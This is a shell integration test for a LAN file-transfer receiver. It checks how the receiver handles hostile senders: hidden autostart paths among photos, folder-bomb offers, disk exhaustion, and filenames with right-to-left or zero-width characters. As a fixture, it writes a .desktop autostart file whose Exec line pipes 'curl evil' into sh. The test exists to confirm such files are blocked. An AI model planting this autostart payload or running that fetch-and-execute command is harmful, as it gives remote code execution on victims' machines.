#!/bin/bash
# shellcheck disable=SC2317  # helpers are called through lan_wait_for
# Hostile paths on the simulated LAN (issue 11, items 6, 7 and 9): a sender
# speaking the protocol (tests/interop/idrop_peer.py, python3-aiortc) offers
#  - Holiday/1..5.jpg + .config/autostart/holiday.desktop: the prompt lists
#    the hidden name (never "... and 1 more") before the question, which
#    counts it (serve on a terminal); nothing lands under a name starting
#    with '.' (it is saved as _config/...);
#  - three empty files 2,040 folders deep, and 1,001 folders in one offer:
#    refused with the reason, no folder made;
#  - 300 empty files in 300 new folders on a nearly full disk: declined for
#    space (folders are charged a block each);
#  - "a<U+202E>txt.exe": refused, nothing written.
# serve runs with --dir = $HOME (it warns), and after a restart expires a
# .part and its resume record left untouched for 30 days (-v names them).
set -eu -o pipefail
# shellcheck source=lan.sh
. "$(dirname "${BASH_SOURCE[0]}")/lan.sh"

TOP=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
BIN=${IDROP_BIN:?set IDROP_BIN to the idrop-lan binary}
PY=/usr/bin/python3
PEER=$TOP/tests/interop/idrop_peer.py
[[ -x "$BIN" ]] || { echo "SKIP: $BIN not built"; exit 77; }
"$PY" -c 'import aiortc' 2>/dev/null || { echo "Bail out! $PY cannot import aiortc: make deps installs python3-aiortc"; exit 1; }
lan_require timeout mount umount touch find script mkfifo
lan_init
lan_add_hosts a b c
tag=${LAN_PREFIX: -4}
A=$(lan_addr a) C=$(lan_addr c)
log() { echo "$LAN_DIR/$1.log"; }

SRC=$LAN_DIR/src
mkdir -p "$SRC"
for i in 1 2 3 4 5; do echo "jpeg $i" >"$SRC/$i.jpg"; done
printf '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n' >"$SRC/holiday.desktop"
: >"$SRC/empty"
# Over one block (256 KiB): a smaller file is written whole at its end
# (transfer/receiver.c), so one cut short leaves nothing to expire.
head -c 400000 /dev/urandom >"$SRC/big"

# The download folder is the (fake) home folder, on a 1 MiB disk: 256 blocks.
DL=$LAN_DIR/home
ST=$LAN_DIR/state
mkdir -p "$DL"
mount -t tmpfs -o size=1m "idrop-test-$tag" "$DL" || lan_fail "mount a tmpfs for the download folder"
lan_on_cleanup "umount '$DL'"
serve() { # LOGNAME: serve on a into $DL, -v
	lan_spawn a "$(log "$1")" env HOME="$DL" "$BIN" serve --name "Paths $tag" --accept=all --dir "$DL" \
		--state-dir "$ST" -v
	pid_s=$LAN_PID
	lan_wait_for 10 grep -q '^advertised:' "$(log "$1")" || lan_fail "serve on a advertised ($1)"
}
serve serve
lan_check "serve warns on stderr that the download folder is the home folder" \
	grep -q "serve: warning: the download folder $DL is your home folder" "$(log serve)"
# A download folder that holds the home folder is as bad: a sender's
# "ann/bin/ls" lands in ~/bin.
mkdir -p "$LAN_DIR/up/ann"
lan_spawn c "$(log serve-up)" env HOME="$LAN_DIR/up/ann" "$BIN" serve --name "Up $tag" --accept=none \
	--dir "$LAN_DIR/up" --state-dir "$LAN_DIR/state-up"
pid_up=$LAN_PID
lan_wait_for 10 grep -q '^advertised:' "$(log serve-up)" || lan_fail "serve on c advertised (--dir above HOME)"
lan_check "serve warns when the download folder holds the home folder" \
	grep -q "serve: warning: the download folder $LAN_DIR/up holds your home folder $LAN_DIR/up/ann: a sender's folders can land in it (ann/bin/)" "$(log serve-up)"
lan_stop "$pid_up" TERM 10 || true

peer() { # NAME ARGS...: the python peer on b sending to a; sets rc
	local name=$1
	shift
	rc=0; lan_run b timeout 60 "$PY" "$PEER" send "http://$A:7757" --timeout 40 --name "aiortc $name" "$@" \
		>"$(log "peer-$name")" 2>&1 || rc=$?
	lan_diag "peer $name: rc=$rc $(tail -n 1 "$(log "peer-$name")" | cut -c1-300)"
}
folders() { find "$DL" -mindepth 1 -type d | wc -l; }
dotnames() { find "$DL" -mindepth 1 -name '.*' | wc -l; }

# --- item 6: a hidden path among holiday photos ---------------------------------
args=()
for i in 1 2 3 4 5; do args+=(--as "Holiday/$i.jpg"); done
args+=(--as ".config/autostart/holiday.desktop")
peer hidden "${args[@]}" "$SRC/1.jpg" "$SRC/2.jpg" "$SRC/3.jpg" "$SRC/4.jpg" "$SRC/5.jpg" "$SRC/holiday.desktop"
lan_check "the offer's listing names the hidden path and where it goes (not '... and 1 more')" \
	grep -q '^  \.config/autostart/holiday\.desktop (.*): a hidden name, saved as _config/autostart/holiday\.desktop$' \
	"$(log serve)"
lan_check "... nothing is summed up as '... and N more'" bash -c "! grep -q 'and 1 more' '$(log serve)'"
lan_check "... the result line says it was saved under '_'" \
	grep -q '^saved: _config/autostart/holiday\.desktop (sent as \.config/autostart/holiday\.desktop' "$(log serve)"
lan_check "... nothing is written under a name starting with '.' (found $(dotnames))" \
	test "$(dotnames)" = 0 -a ! -e "$DL/.config"
lan_check "... the photos and the renamed file arrive whole" \
	cmp -s "$SRC/holiday.desktop" "$DL/_config/autostart/holiday.desktop"

# ... and on a terminal, the person sees it before answering.
DL_T=$LAN_DIR/dl-t
FIFO=$LAN_DIR/tty-in
mkfifo "$FIFO"
exec {tty_w}<>"$FIFO"   # keeps the pipe open, so the terminal never sees end of file
export TTY_CMD="$BIN serve --name 'Tty $tag' --dir '$DL_T' --state-dir '$LAN_DIR/state-t'" FIFO
lan_spawn c "$(log serve-tty)" sh -c 'exec script -qfec "$TTY_CMD" /dev/null <"$FIFO"'
pid_t=$LAN_PID
lan_wait_for 10 grep -q 'advertised:' "$(log serve-tty)" || lan_fail "serve on a terminal advertised"
lan_spawn b "$(log peer-tty)" timeout 60 "$PY" "$PEER" send "http://$C:7757" --timeout 40 --name "aiortc tty" \
	"${args[@]}" "$SRC/1.jpg" "$SRC/2.jpg" "$SRC/3.jpg" "$SRC/4.jpg" "$SRC/5.jpg" "$SRC/holiday.desktop"
pid_p=$LAN_PID
if lan_wait_for 20 grep -q 'Accept 6 files (79 B, 1 hidden name, listed above) from a sender that claims to be "aiortc tty"' "$(log serve-tty)"; then
	echo n >&"$tty_w"
fi
rc=0; wait "$pid_p" || rc=$?   # bounded by its timeout
listed=$(grep -n 'config/autostart/holiday.desktop (44 B): a hidden name, saved as _config' "$(log serve-tty)" | cut -d: -f1) || true
asked=$(grep -n 'Accept 6 files (79 B, 1 hidden name, listed above)' "$(log serve-tty)" | cut -d: -f1) || true
lan_check "on a terminal the hidden path is listed before the question, which counts it" \
	test -n "$listed" -a -n "$asked" -a "${listed:-0}" -lt "${asked:-0}"
lan_check "... answered n: declined (exit 3), nothing written" \
	test "$rc" = 3 -a "$(find "$DL_T" -mindepth 1 | wc -l)" = 0
lan_stop "$pid_t" TERM 10 || true
exec {tty_w}>&-

# --- item 7: folders are not free -------------------------------------------------
before=$(folders)
deep=$(printf 'd/%.0s' $(seq 2040))
peer deep --as "${deep}a" --as "${deep}b" --as "${deep}c" "$SRC/empty" "$SRC/empty" "$SRC/empty"
lan_check "three empty files 2,040 folders deep are refused, saying why" \
	test "$rc" != 0 -a -n "$(grep -o 'more than 32 components' "$(log peer-deep)" | head -n 1)"
lan_check "... and no folder is created ($before before, $(folders) after)" test "$(folders)" = "$before"

args=(); files=()
for i in $(seq 0 1000); do args+=(--as "f$i/x"); files+=("$SRC/empty"); done
peer many "${args[@]}" "${files[@]}"
lan_check "an offer naming 1,001 folders is refused, saying why" \
	test "$rc" != 0 -a -n "$(grep -o '1001 folders, over the limit of 1000' "$(log peer-many)" | head -n 1)"
lan_check "... and no folder is created ($before before, $(folders) after)" test "$(folders)" = "$before"

args=(); files=()
for i in $(seq 1 300); do args+=(--as "g$i/x"); files+=("$SRC/empty"); done
peer space "${args[@]}" "${files[@]}"
lan_check "300 empty files in 300 new folders on a 1 MiB disk are declined: folders cost space" \
	test "$rc" = 3 -a -n "$(grep -o 'not enough free space.*300 new folders included' "$(log peer-space)" | head -n 1)"
lan_check "... and no folder is created ($before before, $(folders) after)" test "$(folders)" = "$before"

# --- item 9: a right-to-left override --------------------------------------------
rtl=$'a\u202etxt.exe'
peer rtl --as "$rtl" "$SRC/1.jpg"
lan_check "a path with U+202E (shows as 'aexe.txt') is refused, saying why" \
	test "$rc" != 0 -a -n "$(grep -o 'hidden character U+202E' "$(log peer-rtl)" | head -n 1)"
lan_check "... and nothing is written" test -z "$(find "$DL" -name '*txt.exe*')" -a ! -e "$DL/$rtl"
zw=$'Holiday/6\u200b.jpg'
peer zw --as "$zw" "$SRC/1.jpg"
lan_check "a path with a zero-width space is refused too" \
	test "$rc" != 0 -a -n "$(grep -o 'hidden character U+200B' "$(log peer-zw)" | head -n 1)" -a ! -e "$DL/$zw"

# --- item 7: stale partial data expires ------------------------------------------
peer stop --stop-after 65536 --as stale.bin "$SRC/big"
lan_wait_for 5 test -f "$DL/stale.bin.part" || lan_diag "no .part: $(ls -l "$DL" | tr '\n' ' ')"
lan_check "serve survived every hostile sender" kill -0 "$pid_s"
rc=0; lan_stop "$pid_s" TERM 10 || rc=$?
lan_check "... and exits 0 on SIGTERM: no leak, no sanitizer report (got $rc)" test "$rc" = 0
lan_check "an interrupted file left a .part and a resume record" \
	test -f "$DL/stale.bin.part" -a "$(find "$ST/partial" -type f | wc -l)" = 1
old=$(($(date +%s) - 31 * 86400))
touch -d "@$old" "$DL/stale.bin.part" "$ST/partial/"*
serve serve2
lan_wait_for 5 grep -q 'expiry of partial files:' "$(log serve2)" || true
lan_check "after 30 days untouched, serve start expires the .part and says so with -v" \
	grep -q "expired, untouched for 30 days: partial file $DL/stale.bin.part" "$(log serve2)"
lan_check "... and its resume record" \
	test ! -e "$DL/stale.bin.part" -a "$(find "$ST/partial" -type f | wc -l)" = 0
rc=0; lan_stop "$pid_s" TERM 10 || rc=$?
lan_check "serve exits 0 after the sweep (got $rc)" test "$rc" = 0
lan_done
